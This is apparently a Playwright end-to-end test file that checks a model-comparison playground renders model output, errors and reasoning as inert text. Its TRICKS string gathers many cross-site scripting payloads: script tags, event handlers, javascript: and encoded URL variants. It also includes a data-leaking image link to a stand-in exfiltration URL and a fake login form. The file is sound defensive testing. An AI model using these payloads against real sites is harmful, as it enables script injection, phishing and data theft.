"""Answers that try everything to be more than text."""

import json

import pytest
from playwright.sync_api import expect

from tests.e2e.browser import Person, Visit
from tests.e2e.playground.steps import add_tricky, column, requests_of, run, run_to_the_end
from tests.e2e.server import Installation
from tests.fakes.client import call
from tests.fakes.replies import Reply
from tests.fakes.upstream import Upstream

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

WORDS = "div p span strong em s a br ul ol li blockquote pre code table thead tbody tr th td"
KNOWN = frozenset(WORDS.split())  # the elements that an answer can become
HERE = "http://127.0.0.1:9/exfiltration"
TRICKS = f"""# A heading <script>window.hacked = 1</script>

<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 1"> <svg onload="window.hacked=1"></svg>
<iframe src="{HERE}"></iframe> <object data="{HERE}"></object> <embed src="{HERE}"> <base href="{HERE}">
<style>body {{ display: none }}</style> <link rel="stylesheet" href="{HERE}.css">
<meta http-equiv="refresh" content="0">
<form action="{HERE}"><input name="q"><button>Log in again</button></form>
<math><mtext><table><mglyph><style><img src=x>
<a href="javascript:window.hacked=1" onclick="window.hacked=1">click</a> <details open ontoggle=window.hacked=1>

[a](javascript:window.hacked=1) [b](JaVaScRiPt&colon;window.hacked=1)
[c](data:text/html,<script>window.hacked=1</script>)
[d](vbscript:x) [e](  javascript:window.hacked=1  ) [f](&#106;avascript:window.hacked=1)
[g](/auth/logout/) [h](//evil.example)
[i](https://ok.example/page "a title\\" onmouseover=\\"window.hacked=1")
<javascript:window.hacked=1> <https://auto.example>

![pixel]({HERE}.png?secret=prompt) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![x](x" onerror="window.hacked=1)
[![nested]({HERE}.gif)](javascript:window.hacked=1) [ref] ![ref]

[ref]: {HERE}.ref.png "x"

| a | b <img src=x onerror=window.hacked=1> |
|--:|---|
| 1 | `<script>window.hacked=1</script>` |

> quote
> > deeper <b onmouseover=window.hacked=1>x</b>

1. one
   - two ~~three~~ **four** _five_

```html "><img src=x onerror=window.hacked=1>
<script>window.hacked = 1</script>
</code></pre><img src=x onerror=window.hacked=1>
```

~~~
a fence that never ends <script>window.hacked = 1</script> \u202e\u0000\ufeff ![z]({HERE}.z.png)
"""


class TestTricks:
    @pytest.mark.parametrize("frames", [1, 40, 400], ids=["at once", "in pieces", "almost by letter"])
    def test_an_answer_full_of_tricks_is_text(self, site: Installation, alice: Person, tricky: Upstream, frames: int):
        model = add_tricky(site, tricky, Reply(content=TRICKS, frames=frames), f"tricky/html-{frames}")
        visit = alice.visit(f"/playground?models={model},{model}&prompt=hello")
        page = visit.page
        asked = requests_of(visit)
        page.evaluate("""() => {
            window.seen = new Set();
            new MutationObserver(() => {
                for (const e of document.querySelectorAll('.answer *')) window.seen.add(e.localName);
            }).observe(document.body, {childList: true, subtree: true});
            addEventListener('securitypolicyviolation', e => window.seen.add(`violation ${e.violatedDirective}`));
        }""")
        run_to_the_end(page)
        page.get_by_text("Show how two answers differ").click()
        self.is_harmless(visit, asked, site)
        seen = set(page.evaluate("() => [...window.seen]"))
        assert seen <= KNOWN
        page.get_by_role("button", name="Share").click()
        link = page.get_by_role("link", name="/playground/shares/")
        again = alice.visit(link.inner_text().removeprefix(site.url))
        self.is_harmless(again, requests_of(again), site)

    def is_harmless(self, visit: Visit, asked: list[str], site: Installation) -> None:
        page = visit.page
        answer = column(page, 1).locator("[data-part=answer]")
        expect(answer).to_contain_text("<script>window.hacked = 1</script>")
        expect(answer).to_contain_text("a fence that never ends")
        expect(answer).to_contain_text("[picture: pixel]")
        assert page.evaluate("() => window.hacked") is None
        assert [url for url in asked if not url.startswith(site.url)] == []
        links = answer.locator("a").evaluate_all("links => links.map(a => [a.getAttribute('href'), a.rel, a.target])")
        assert {href.partition("?")[0] for href, _, _ in links} <= {
            "https://ok.example/page",
            "https://auto.example/",
            *(f"{HERE}{end}" for end in (".png", ".ref.png", ".gif", ".z.png")),
        }
        assert {(rel, target) for _, rel, target in links} == {("noopener noreferrer nofollow ugc", "_blank")}
        attributes = answer.evaluate(
            "root => [...new Set([...root.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name)))]"
        )
        known = {"class", "href", "target", "rel", "referrerpolicy", "tabindex", "role", "aria-label", "start"}
        assert set(attributes) <= known
        visit.check()

    def test_names_of_models_tools_and_errors_are_text_too(self, site: Installation, alice: Person, tricky: Upstream):
        body = json.dumps({"error": {"message": "<img src=x onerror=window.hacked=1>"}}).encode()
        failing = add_tricky(site, tricky, Reply(status=400, body=body), "tricky/words")
        thinking = add_tricky(site, tricky, Reply(reasoning="<script>window.hacked=1</script>"), "tricky/thinking")
        visit = alice.visit(f"/playground?models={failing},{thinking},%3Cb%3E&prompt=%3Ci%3E")
        run(visit.page)
        expect(visit.page.get_by_text("2 of 3 failed")).to_be_visible()
        column(visit.page, 2).get_by_text("What it thought").click()
        expect(column(visit.page, 2)).to_contain_text("<script>window.hacked=1</script>")
        assert visit.page.evaluate("() => window.hacked") is None
        visit.check()

    def test_a_page_of_another_site_gets_no_token(self, site: Installation, alice: Person):
        """Without the form's token nobody has one made, whatever cookies the browser sends along."""
        status = alice.visit("/playground").page.evaluate(
            "() => fetch('/playground/token', {method: 'POST'}).then(answer => answer.status)"
        )
        assert status == 403
        assert call(site.url, "/api/compare", "cs_forged", {"models": []}).status == 401
